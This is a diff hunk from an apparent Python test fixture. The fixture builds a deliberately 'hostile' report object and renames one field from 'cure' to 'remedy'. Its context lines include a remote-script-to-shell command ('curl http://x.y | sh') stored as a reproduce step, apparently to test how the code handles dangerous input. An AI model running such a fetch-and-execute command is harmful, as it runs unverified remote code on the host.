@@ -189,7 +189,7 @@ def hostile() -> Report:
         ),
         environment=(Fact(name=EVIL, value=EVIL),),
         observations=(Observation(kind=ObservationKind.ENTROPY, what=EVIL, file=EVIL, line=3),),
-        warnings=(Notice(what=EVIL, why=EVIL, cure=EVIL, where=EVIL),),
+        warnings=(Notice(what=EVIL, why=EVIL, remedy=EVIL, where=EVIL),),
         hints=(Notice(what=EVIL),),
         trends=(Trend(file=EVIL, name=EVIL, goal=Goal.MIN, values=(1.0, 2.0, 3.0)),),
         reproduce=("curl http://x.y | sh",),
